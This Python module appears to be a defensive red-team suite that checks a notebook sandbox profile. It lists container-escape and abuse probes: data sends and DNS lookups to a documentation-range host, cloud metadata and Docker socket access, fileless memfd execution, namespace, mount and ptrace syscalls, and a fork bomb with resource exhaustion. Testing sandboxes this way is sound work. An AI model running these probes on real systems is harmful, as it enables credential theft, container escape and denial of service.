"""The red team that runs inside: each attack says what it would win, and what has to refuse it.

An attack is a few lines of Python that end normally when they got in, and raise when they were refused. The same
lines are run in a locked container (all must be refused) and in a weak one (all must get in): an attack that cannot
succeed anywhere proves nothing.

Addresses are of the blocks that are kept for documentation and for link-local use, so that even a success reaches
nobody: in the weak container they belong to a trap.
"""

from __future__ import annotations

from dataclasses import dataclass

INTERNET = "203.0.113.1"  # RFC 5737, never routed
NAME_SERVER = "203.0.113.53"
METADATA = "169.254.169.254"  # where clouds tell their machines secrets
BRIDGE = "172.17.0.1"  # the host, as seen from the engine's default network
NEIGHBOUR = "172.17.0.2"  # another container there


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One attack.

    >>> [a.name for a in ATTACKS if "network_mode" in a.refused_by][0]
    'reach the internet by TCP'
    """

    name: str
    would: str  # what its success would mean
    code: str
    refused_by: str  # the setting of the profile


def _connect(host: str, port: int) -> str:
    return f"socket.create_connection(({host!r}, {port}), timeout=2)"


ATTACKS: tuple[Attack, ...] = (
    Attack(
        name="reach the internet by TCP",
        would="send rows to any server",
        code=_connect(INTERNET, 443),
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by UDP",
        would="the same, past a filter that knows TCP only",
        code=f"""
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(2)
    s.sendto(b"row", ({INTERNET!r}, 9))
    s.recv(16)
""",
        refused_by="network_mode",
    ),
    Attack(
        name="ask a name server",
        would="carry rows out in names that are looked up",
        code='socket.getaddrinfo("row-1.example.org", 80, socket.AF_INET)',
        refused_by="network_mode, dns",
    ),
    Attack(
        name="ask the metadata address",
        would="read the host's own credentials in a cloud",
        code=_connect(METADATA, 80),
        refused_by="network_mode",
    ),
    Attack(
        name="reach a port of the host",
        would="speak to the database, the hub or the engine without the gate",
        code=_connect(BRIDGE, 2375),
        refused_by="network_mode",
    ),
    Attack(
        name="reach another container",
        would="read another person's notebook",
        code=_connect(NEIGHBOUR, 8888),
        refused_by="network_mode",
    ),
    Attack(
        name="open the container engine's socket",
        would="become root on the host",
        code="""
with socket.socket(socket.AF_UNIX) as s:
    s.connect("/var/run/docker.sock")
""",
        refused_by="nothing is mounted",
    ),
    Attack(
        name="open the raw data",
        would="read the rows themselves",
        code='open("/data/raw/rows.csv").read()',
        refused_by="nothing is mounted",
    ),
    Attack(
        name="list the carrier's sockets",
        would="speak to the gate as somebody else, or take its place",
        code='os.listdir("/gate")',
        refused_by="nothing is mounted",
    ),
    Attack(
        name="open a virtual machine socket",
        would="speak to the hypervisor, which no network setting stops",
        code="socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()",
        refused_by="seccomp",
    ),
    Attack(
        name="open a raw socket",
        would="forge packets",
        code="socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()",
        refused_by="cap_drop",
    ),
    Attack(
        name="set up io_uring",
        would="use a part of the kernel that many break-outs came through",
        code="system_call(425, 4, bytes(120))",
        refused_by="seccomp",
    ),
    Attack(
        name="trace a process",
        would="take over another program",
        code="c_call('ptrace', 0, 0, 0, 0)",
        refused_by="seccomp",
    ),
    Attack(
        name="add a key to the kernel's ring",
        would="use a store that containers share",
        code="system_call(217 if platform.machine() == 'aarch64' else 248, b'user', b'name', b'value', 5, -2)",
        refused_by="seccomp",
    ),
    Attack(
        name="make a user namespace",
        would="be root in it, and reach kernel code that only root may",
        code="c_call('unshare', 0x10000000)",
        refused_by="seccomp",
    ),
    Attack(
        name="mount a file system",
        would="lay another file over one that is trusted",
        code="c_call('mount', b'none', b'/mnt', b'tmpfs', 0, None)",
        refused_by="seccomp, cap_drop",
    ),
    Attack(
        name="make a device",
        would="read the host's disk",
        code='os.mknod("/tmp/probe-device", 0o60600, os.makedev(8, 0))',
        refused_by="seccomp, cap_drop",
    ),
    Attack(
        name="become root",
        would="start from a better place",
        code="os.setuid(0)",
        refused_by="user, cap_drop",
    ),
    Attack(
        name="change a program",
        would="be there at the next start",
        code='open("/usr/bin/probe", "w").close()',
        refused_by="read_only",
    ),
    Attack(
        name="execute a file from /tmp",
        would="run tools that are not in the image",
        code="""
shutil.copy("/bin/true", "/tmp/probe-true")
os.chmod("/tmp/probe-true", 0o700)
subprocess.run(["/tmp/probe-true"], check=True)
""",
        refused_by="tmpfs (noexec)",
    ),
    Attack(
        name="execute a file that exists in memory only",
        would="the same, past noexec",
        code="""
with open(os.memfd_create("probe"), "wb", closefd=False) as f:
    f.write(open("/bin/true", "rb").read())
    f.flush()
    subprocess.run([f"/proc/self/fd/{f.fileno()}"], check=True, pass_fds=[f.fileno()])
""",
        refused_by="seccomp",
    ),
    Attack(
        name="fork without end",
        would="stop the host for everybody",
        code="""
children = []
try:
    for _ in range(600):
        child = os.fork()
        if child == 0:
            signal.pause()
        children.append(child)
finally:
    for child in children:
        os.kill(child, signal.SIGKILL)
""",
        refused_by="pids_limit",
    ),
    Attack(
        name="take more memory than was given",
        would="push other programs out",
        code="bytearray(400 << 20)",
        refused_by="mem_limit",
    ),
    Attack(
        name="write a file without end",
        would="fill the host's memory or disk",
        code="""
try:
    with open("/tmp/probe-large", "wb") as f:
        for _ in range(80):
            f.write(bytes(1 << 20))
finally:
    os.unlink("/tmp/probe-large")
""",
        refused_by="tmpfs (size), ulimits (fsize)",
    ),
    Attack(
        name="make files without end",
        would="use up the kernel's memory with empty files",
        code="""
os.mkdir("/tmp/probe-many")
try:
    for n in range(6000):
        open(f"/tmp/probe-many/{n}", "w").close()
finally:
    shutil.rmtree("/tmp/probe-many")
""",
        refused_by="tmpfs (nr_inodes)",
    ),
    Attack(
        name="allow core dumps",
        would="leave data of a crashed program on the host",
        code="resource.setrlimit(resource.RLIMIT_CORE, (1, 1))",
        refused_by="ulimits (core)",
    ),
)
